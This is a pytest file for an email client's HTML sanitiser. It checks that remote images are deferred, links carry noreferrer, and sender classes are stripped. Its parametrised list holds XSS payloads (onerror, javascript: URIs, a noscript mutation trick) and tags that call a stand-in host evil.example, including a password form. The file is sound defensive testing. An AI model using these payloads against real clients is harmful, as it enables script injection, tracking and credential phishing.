"""HTML of a mail is harmless when it is shown, and remote things wait to be asked for."""

import re

import pytest

from ..html import sanitise
from .messages import mail


def html(source: str) -> str:
    """The HTML that the page would show."""
    return mail(source, kind="text/html; charset=utf-8").html


@pytest.mark.parametrize(
    "hostile",
    [
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<script>alert(1)</script>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" java\tscript:alert(1)">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        "<base href=//evil.example>",
        '<meta http-equiv=refresh content="0;url=//evil.example">',
        "<form action=//evil.example><input name=password></form>",
        "<style>@import url(//evil.example); body{position:fixed}</style>",
        '<div style="position:fixed;background:url(//evil.example)">x</div>',
        "<link rel=prefetch href=//evil.example>",
        "<iframe src=//evil.example></iframe><object data=//evil.example></object>",
        "<table background=//evil.example><tr><td>x</td></tr></table>",
        '<img srcset="//evil.example 2x"><video poster=//evil.example></video>',
        "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    ],
)
def test_nothing_runs_covers_or_calls_home(hostile: str) -> None:
    shown = html(f"<p>before</p>{hostile}<p>after</p>").lower()
    assert not re.search(
        r"<script|onerror=|onload=|<[^>]*javascript:|evil\.example|style=|<form|<input|<svg|<math|<iframe", shown
    )
    assert "<p>before</p>" in shown


def test_a_remote_image_keeps_its_address_without_being_loaded() -> None:
    shown = html('<img src="https://shop.example/a.png?x=1&y=2" alt="Logo" width=20>')
    assert 'data-remote-src="https://shop.example/a.png?x=1&amp;y=2"' in shown
    assert " src=" not in shown


def test_an_image_without_a_scheme_is_dropped() -> None:
    assert "example" not in html('<img src="//shop.example/a.png">')


def test_an_embedded_picture_stays_and_an_embedded_page_does_not() -> None:
    assert 'src="data:image/png;base64,AAAA"' in html('<img src="data:image/png;base64,AAAA">')
    assert "data:" not in html('<img src="data:image/svg+xml;base64,AAAA">')


def test_links_give_nothing_away() -> None:
    assert 'rel="noopener noreferrer nofollow"' in html('<a href="https://a.example">x</a>')


def test_a_sender_cannot_use_our_classes_or_ids() -> None:
    shown = html(
        '<div class="button-primary" id="reply-form" data-remote-src="https://evil.example" data-cid=x>x</div>'
    )
    assert shown == "<div>x</div>"


@pytest.mark.parametrize(
    "container",
    [
        '<div class="gmail_quote">',
        '<div id="divRplyFwdMsg">',
        '<div class="yahoo_quoted" id="yahoo">',
        '<div class="moz-cite-prefix">',
    ],
)
def test_containers_of_history_are_marked_for_folding(container: str) -> None:
    assert '<div class="mail-quote">old' in html(f"<p>new</p>{container}old</div>")


def test_a_page_nested_too_deep_is_shown_as_text() -> None:
    found = mail("<div>" * 5000 + "deep words", kind="text/html")
    assert (found.html, found.text) == ("", "deep words")
    assert any(note.code == "html-heavy" for note in found.notes)


def test_an_element_with_countless_attributes_is_shown_as_text() -> None:
    found = mail("<div " + " ".join(f"a{number}=1" for number in range(9000)) + ">words", kind="text/html")
    assert (found.html, found.text) == ("", "words")


def test_the_sanitiser_gives_nothing_for_nothing() -> None:
    assert sanitise("") == ""
